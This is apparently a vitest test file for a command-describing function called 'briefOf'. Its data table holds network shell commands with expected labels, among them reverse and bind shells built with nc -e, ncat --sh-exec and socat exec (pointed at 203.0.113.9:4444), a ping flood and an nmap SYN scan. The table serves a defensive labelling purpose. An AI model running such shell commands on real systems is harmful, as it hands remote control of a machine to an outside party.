/** Asking the network, and joining ends of connections. */
import { expect, test } from "vitest";
import { briefOf } from "../brief.ts";

const TABLE: readonly [line: string, does: string][] = [
  ["ping -c1 example.com", "network example.com"],
  ["ping -c 1 localhost", "network-local localhost"],
  ["ping -f example.com", "network example.com ! floods a host with packets"],
  ["traceroute example.com", "network"],
  ["dig +short example.com", "network"],
  ["nslookup example.com 127.0.0.53", "network"],
  ["whois example.com", "network"],
  ["nmap -p 80 localhost", "network-local localhost"],
  ["nmap -sS -oN out.txt 203.0.113.9", "write out.txt, network 203.0.113.9, unknown"],
  ["nc -z 127.0.0.1 4444", "network-local 127.0.0.1"],
  ["nc -zv localhost 5432", "network-local localhost"],
  ["nc -l 8080", "network-local"],
  ["nc -lU /tmp/s.sock", "network-local /tmp/s.sock"],
  ["nc example.com 80", "network example.com"],
  ["nc -e /bin/sh 203.0.113.9 4444", "network 203.0.113.9 ! lets whoever is at the other end run a program"],
  ["ncat --sh-exec id -l 4444", "network-local ! lets whoever is at the other end run a program"],
  ["socat -V", ""],
  [
    "socat tcp:203.0.113.9:4444 exec:sh",
    "network tcp:203.0.113.9:4444, runs sh ! lets whoever is at the other end run a program",
  ],
  [
    "socat TCP-LISTEN:4444,fork EXEC:/bin/sh",
    "network-local TCP-LISTEN:4444,fork, runs /bin/sh ! lets whoever is at the other end run a program",
  ],
  ["socat - UNIX-CONNECT:/tmp/s.sock", "network-local /tmp/s.sock"],
  ["socat - TCP:localhost:5432", "network-local TCP:localhost:5432"],
  ["socat TCP-LISTEN:80 TCP:example.com:80", "network-local TCP-LISTEN:80, network TCP:example.com:80"],
  ["telnet localhost 25", "network-local localhost"],
  ["telnet example.com 25", "network example.com"],
  ["grpcurl -plaintext localhost:50051 list", "network-local localhost:50051"],
  ["wrk -t2 -d5s http://localhost:3000/", "network-local http://localhost:3000/"],
  ["wrk http://example.com/", "network http://example.com/"],
  ["ngrok http 3000", "network ! opens this machine to others"],
  ["ngrok version", "network"],
];
test.each(TABLE)("%s", (line, does) => {
  expect(briefOf(line)).toBe(does);
});
